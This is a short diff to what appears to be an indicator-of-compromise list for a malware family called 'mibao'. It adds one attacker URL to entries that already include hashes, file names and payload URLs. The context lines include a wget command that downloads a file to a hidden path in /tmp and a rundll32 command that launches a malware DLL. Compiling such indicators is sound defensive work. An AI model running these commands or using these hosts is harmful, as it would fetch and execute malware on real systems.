@@ -49,6 +49,7 @@ OTHERS = [
     ("command_line", "wget --no-check-certificate https://mibao-updates.net/a -O /tmp/.mibao"),
     ("command_line", r"rundll32.exe c:\programdata\mibao\core.dll,Start"),
     ("url", "http://203.0.113.78/mibao.bin"),
+    ("url", "https://mibao-gate.net/u/7781"),
     ("md5", "f5ae03de0ad60f5b17b82f2cd68402f0"),
     ("file_name", "mibaohelper.exe"),
     ("file_name", "mibaocore.dll"),
